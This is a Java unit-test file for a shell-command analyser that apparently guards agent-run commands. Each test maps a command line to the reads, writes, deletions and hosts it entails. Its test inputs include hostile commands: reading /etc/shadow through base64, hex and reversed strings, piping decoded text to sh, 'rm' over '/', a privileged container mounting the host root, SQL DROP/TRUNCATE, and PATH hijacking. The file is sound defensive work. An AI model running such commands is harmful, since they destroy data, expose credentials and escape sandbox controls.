package io.gatehouse.command;

import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/// Arguments, scripts and settings that stand in files, or that only the disk can name.
final class MoreArgumentsTest {
    private static final Map<String, String> FILES = Map.of(
            "opts", "url = \"https://a.example/\"\noutput = out.bin\n# url = x\n",
            "urls", "https://a.example/\nhttps://b.example/\n",
            "names", "/etc/shadow\nsrc/a\n",
            "rc", "rm x\n",
            "s/a.sh", "rm x\n",
            "bin/ls", "#!/bin/sh\nrm x\n",
            "drop.sql", "-- drop table no;\nSELECT 1; DROP TABLE a;\n\\i more.sql\n",
            "more.sql", "TRUNCATE b;",
            "c.yml",
                    "services:\n  x:\n    image: alpine\n    privileged: true\n    volumes:\n      - /:/host\n      - ./data:/data\n      - named:/n\n",
            "p.diff", "--- a/x\n+++ b/.github/workflows/x.yml\n@@ -1 +1 @@\n");

    private static final ScriptFiles DISK = new ScriptFiles() {
        @Override
        public Optional<Text> read(String path, String directory) {
            return Optional.ofNullable(FILES.get(path)).map(text -> new Text(path, "digest", text, false));
        }

        @Override
        public List<String> names(String pattern) {
            return pattern.startsWith("s/") ? List.of("s/a.sh") : List.of();
        }
    };

    private static Script read(String line) {
        return ShellLine.parse(line, DISK);
    }

    @Test
    void filesThatHoldMoreArgumentsAreRead() {
        Table.holds(
                MoreArgumentsTest::read,
                """
                curl -K opts => https://a.example/; WRITE out.bin; not http://x
                curl --config=opts => https://a.example/
                echo 'url = https://c.example/' | curl -K - => https://c.example/
                cat x | curl -K - => opaque
                wget -i urls => https://a.example/; https://b.example/
                tar -cf - -T names => READ /etc/shadow
                tar -xf a.tar -T names => not READ /etc/shadow
                xargs -a names rm => DELETE /etc/shadow; DELETE src/a
                xargs rm < names => DELETE /etc/shadow
                rsync --files-from=names . h:x => READ /etc/shadow
                patch -p1 < p.diff => WRITE .github/workflows/x.yml
                git apply p.diff => WRITE .github/workflows/x.yml
                git apply <<'E'⏎+++ b/.claude/settings.json⏎E => WRITE .claude/settings.json
                """);
    }

    @Test
    void hostsAreFoundInTheFormsOfTheirPrograms() {
        Table.holds(
                MoreArgumentsTest::read,
                """
                http a.example => http://a.example
                http POST a.example/x b=c => http://a.example/x
                http :3000/x => http://localhost:3000/x
                dig "$(cat x).a.example" => tcp://x.a.example
                dig @a.example b.example => tcp://a.example; tcp://b.example
                """);
    }

    @Test
    void scriptsThatOnlyTheDiskNamesAreFollowed() {
        Table.holds(
                MoreArgumentsTest::read,
                """
                bash s/*.sh => rm x in bash
                for f in s/*.sh; do bash "$f"; done => rm x in bash
                find s -name '*.sh' -exec sh {} \\; => rm x in find sh
                bash t/*.sh => bash t/*.sh partial
                bash --rcfile rc -i -c true => rm x in bash
                PATH=bin:$PATH ls => rm x in ls
                export PATH="bin:$PATH"; ls => rm x in ls
                PATH=/usr/bin:$PATH ls => not rm x in ls
                """);
    }

    @Test
    void whatADatabaseClientReadsIsToldWhereItTakesSomethingAway() {
        Table.holds(
                MoreArgumentsTest::read,
                """
                psql -f drop.sql => psql -c DROP TABLE a; psql -c TRUNCATE b
                mysql app < drop.sql => mysql -c DROP TABLE a
                psql <<< 'DROP SCHEMA x' => psql -c DROP SCHEMA x
                psql <<< 'SELECT 1' => not psql -c SELECT 1
                """);
    }

    @Test
    void servicesOfAComposeFileAreToldAsWhatTheyGet() {
        Table.holds(
                MoreArgumentsTest::read,
                """
                docker compose -f c.yml up -d => docker run -v /:/mnt -v ./data:/mnt --privileged alpine in docker; READ /; READ ./data
                docker compose -f c.yml ps => not READ /
                """);
    }

    @Test
    void whatUnpacksWritesWhereItStands() {
        Table.holds(
                MoreArgumentsTest::read,
                """
                cd ~ && cpio -id < a => WRITE ~/.
                patch -d ~ -p0 < a => WRITE ~/.
                cd ~ && tar xf a.tar => WRITE ~/.
                tar -C ~ -xf a.tar => WRITE ~/.
                tar -xf a.tar -C ~ => WRITE ~; not WRITE ~/.
                npm install --prefix ~/.local x => WRITE ~/.local/.
                """);
    }

    @Test
    void aDirectoryGetsTheNamesOfWhatGoesThere() {
        Table.holds(
                MoreArgumentsTest::read,
                """
                mv x/workflows .github/ => WRITE .github//workflows
                mv x/hooks .git => WRITE .git/hooks
                cp -t .claude x/settings.json => WRITE .claude/settings.json
                cp a b => not WRITE b/a
                """);
    }

    @Test
    void encodedTextThatTheLineHoldsIsDecoded() {
        Table.holds(
                MoreArgumentsTest::read,
                """
                cat "$(echo L2V0Yy9zaGFkb3c= | base64 -d)" => READ /etc/shadow
                cat $(echo 2f6574632f736861646f77 | xxd -r -p) => READ /etc/shadow
                cat $(rev <<< wodahs/cte/) => READ /etc/shadow
                echo cm0geA== | base64 -d | sh => rm x in sh
                echo 'cm0g]eA==' | base64 -d | sh => opaque
                echo 'cm0g eA==' | base64 -d | sh => opaque
                echo 'cm0g]eA==' | base64 -di | sh => rm x in sh
                cat "$(base64 -d y)" => cat $(base64 -d y) opaque
                echo "$(base64 -d y)" => partial
                """);
    }

    @Test
    void namesThatASearchPrintsLieBelowItsRoot() {
        Table.holds(
                MoreArgumentsTest::read,
                """
                find . -name '*.a' | while read -r s; do rm "$s"; done => DELETE . **/*.a
                find / | while read -r s; do rm "$s"; done => DELETE / **
                for f in $(grep -rl x src | sort); do rm "$f"; done => DELETE src **
                rg -l x | while read -r f; do rm "$f"; done => DELETE . **
                cat list | while read -r f; do rm "$f"; done => partial; DELETE $f
                find a b | while read -r f; do rm "$f"; done => partial
                t=$(mktemp -d); rm -r "$t" => DELETE /tmp tmp.*
                t=$(mktemp -d a/b.XXXX); rm -r "$t" => DELETE a b.*
                t=$(mktemp -p x); rm -r "$t" => partial
                """);
    }

    @Test
    void aDaemonGetsWhatStandsBehindTheDashes() {
        Table.holds(
                MoreArgumentsTest::read,
                """
                start-stop-daemon --start --exec /bin/rm --pidfile p -- -r x => /bin/rm -r x in start-stop-daemon
                """);
    }

    @Test
    void filesOfPackagesAndTextsForACompilerNameMore() {
        Table.holds(
                ShellLine::parse,
                """
                echo '#include "/x/y"' | gcc -E - => READ /x/y
                printf -- '-i https://a.example/b\\nc @ git+https://d.example/e\\n' > r; pip install -r r => https://a.example/b; git+https://d.example/e
                """);
    }
}
